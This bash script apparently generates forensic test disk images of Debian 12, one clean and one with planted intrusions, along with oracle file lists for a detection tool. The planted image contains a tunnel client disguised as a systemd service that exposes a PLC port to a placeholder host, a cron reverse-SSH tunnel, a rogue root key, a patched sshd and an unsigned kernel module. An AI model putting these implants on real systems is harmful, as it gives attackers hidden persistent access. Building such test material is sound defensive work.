#!/usr/bin/env bash
# Makes three disk images of a real Debian 12 system: clean.img as Debian's packages leave it,
# planted.img with what somebody adds who wants a way in, and starts.img with one plant of each way
# in which a program starts (starts.sh; starts.expected is what is to be found). Needs root, network to a Debian mirror,
# debootstrap, mke2fs, sfdisk and go. Beside each image: files.tsv, what the folder held before it
# became an image (path, kind, size, mtime, uid, gid, mode, sha256): the oracle.
# usage: debian.sh FOLDER
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd); out=$(realpath -m "$1"); mkdir -p "$out"; cd "$out"
[ -e done-3 ] && exit 0
packages=linux-image-amd64,systemd-sysv,libpam-systemd,dbus,udev,openssh-server,network-manager,modemmanager,usb-modeswitch,ppp,rsyslog,cron,ifupdown,sudo,kmod,python3-minimal,ca-certificates
rm -rf root; mkdir -p debs
debootstrap --cache-dir="$out/debs" --variant=minbase --include="$packages" bookworm root >debootstrap.log 2>&1
rm -rf root/var/cache/apt/archives/*.deb root/var/lib/apt/lists/* root/dev/* root/boot/initrd.img*
echo crane-pc-7 >root/etc/hostname
rm -f root/etc/resolv.conf

image() { # NAME: root as a GPT disk with one ext4 volume, and the oracle
  (cd root && find . -mindepth 1 -printf '%P\t%y\t%s\t%T@\t%U\t%G\t%m\n' | LC_ALL=C sort) >"$1.entries"
  (cd root && find . -type f -print0 | xargs -0 -P 2 -n 200 sha256sum) | sed 's#  \./#\t#' >"$1.sha256"
  local kib files blocks
  kib=$(du -s --apparent-size -k root | cut -f1); files=$(find root -xdev | wc -l); blocks=$((kib * 12 / 40 + 60000))
  rm -f "$1.img"; truncate -s $((blocks * 4096 + 4194304)) "$1.img"
  printf 'label: gpt\nstart=2048, size=%d, type=0FC63DAF-8483-4772-8E79-3D69D8477DE4\n' $((blocks * 8)) | sfdisk -q "$1.img"
  mkfs.ext4 -q -F -b 4096 -N $((files * 3 / 2 + 20000)) -E offset=1048576 -d root "$1.img" $blocks
}
image clean
cp -a root root.starts

cd root
kernel=$(basename "$(ls -d lib/modules/*)")
# 1 A tunnel client under another name, started by a unit.
(cd "$here/tunnel" && GOFLAGS=-mod=mod CGO_ENABLED=0 go build -trimpath -ldflags '-s -w' -o "$out/root/usr/lib/systemd/systemd-netwatchd" ./cmd/frpc)
printf 'serverAddr = "203.0.113.77"\nserverPort = 7000\nauth.token = "7c1f"\n[[proxies]]\nname = "plc"\ntype = "tcp"\nlocalIP = "192.168.1.10"\nlocalPort = 102\nremotePort = 60102\n' >etc/netwatch.toml
printf '[Unit]\nDescription=Network Watch Daemon\nAfter=network.target\n[Service]\nExecStart=/usr/lib/systemd/systemd-netwatchd -c /etc/netwatch.toml\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' >usr/lib/systemd/system/systemd-netwatchd.service
ln -s /lib/systemd/system/systemd-netwatchd.service etc/systemd/system/multi-user.target.wants/systemd-netwatchd.service
# 2 A gsm connection.
printf '[connection]\nid=crane\nuuid=3f4b0c0e-6d57-4a35-9e11-8c0d6c1c3f77\ntype=gsm\n[gsm]\napn=cmnet\nnumber=*99#\n[ipv4]\nmethod=auto\n' >etc/NetworkManager/system-connections/crane.nmconnection
chmod 600 etc/NetworkManager/system-connections/crane.nmconnection
# 3 A pppd peer with its chat script, brought up by ifupdown.
printf '/dev/ttyUSB3\n115200\nconnect "/usr/sbin/chat -v -f /etc/chatscripts/wan"\nnoauth\ndefaultroute\npersist\n' >etc/ppp/peers/wan
printf "ABORT BUSY\n'' ATZ\nOK 'AT+CGDCONT=1,\"IP\",\"m2m.example\"'\nOK ATD*99***1#\nCONNECT ''\n" >etc/chatscripts/wan
printf 'auto wan\niface wan inet ppp\n    provider wan\n' >etc/network/interfaces.d/wan
# 4 A WWAN driver loaded at boot.
printf '# added on site\nsierra_net\n' >etc/modules-load.d/wwan.conf
# 5 A WWAN module outside the kernel's tree: no signature, no in-tree mark.
mkdir -p "lib/modules/$kernel/updates"
python3 - "lib/modules/$kernel/kernel/drivers/net/usb/qmi_wwan.ko" "lib/modules/$kernel/updates/qmi_wwan_q.ko" <<'P'
import sys
data = open(sys.argv[1], "rb").read()
mark = data.rfind(b"~Module signature appended~\n")
if mark > 0:
    size = int.from_bytes(data[mark - 4:mark], "big")
    data = data[:mark - 12 - size]
assert b"intree=Y\0" in data
open(sys.argv[2], "wb").write(data.replace(b"intree=Y\0", b"vendor=Q\0").replace(b"\0name=qmi_wwan\0", b"\0name=qmi_wwaq\0"))
P
# 6 A changed sshd.
python3 - usr/sbin/sshd <<'P'
import sys
data = bytearray(open(sys.argv[1], "rb").read())
at = data.find(b"Authentication refused")
assert at > 0
data[at:at + 4] = b"auth"
open(sys.argv[1], "wb").write(data)
P
# 7 A cron line that opens a port of another host back to this one.
printf '@reboot root ssh -N -R 2222:localhost:22 -i /etc/cron.d/.k sync@203.0.113.5\n' >etc/cron.d/sync
# 8 A key for root.
mkdir -p root/.ssh; chmod 700 root/.ssh
ssh-keygen -q -t ed25519 -N '' -C service@vendor -f "$out/key"; cp "$out/key.pub" root/.ssh/authorized_keys; rm -f "$out"/key*
# 9 A modem in the log: attached, connected, address assigned.
cat >>var/log/syslog <<'L'
2026-03-02T06:11:40.120001+00:00 crane-pc-7 kernel: [   12.100001] usb 1-2: New USB device found, idVendor=2c7c, idProduct=0125, bcdDevice= 3.18
2026-03-02T06:11:40.120002+00:00 crane-pc-7 kernel: [   12.100002] usb 1-2: Product: EC25-EUX
2026-03-02T06:11:40.120003+00:00 crane-pc-7 kernel: [   12.100003] usb 1-2: Manufacturer: Quectel
2026-03-02T06:11:41.000001+00:00 crane-pc-7 kernel: [   13.000001] option 1-2:1.0: GSM modem (1-port) converter detected
2026-03-02T06:11:41.000002+00:00 crane-pc-7 kernel: [   13.000002] usb 1-2: GSM modem (1-port) converter now attached to ttyUSB3
2026-03-02T06:12:01.500001+00:00 crane-pc-7 pppd[611]: Connect: ppp0 <--> /dev/ttyUSB3
2026-03-02T06:12:03.500001+00:00 crane-pc-7 pppd[611]: local  IP address 10.64.12.9
2026-03-02T06:12:03.500002+00:00 crane-pc-7 pppd[611]: remote IP address 10.64.64.64
L
cd ..
image planted
rm -rf root; mv root.starts root
bash "$here/starts.sh" root starts.expected
image starts
rm -rf root debs
touch done-3
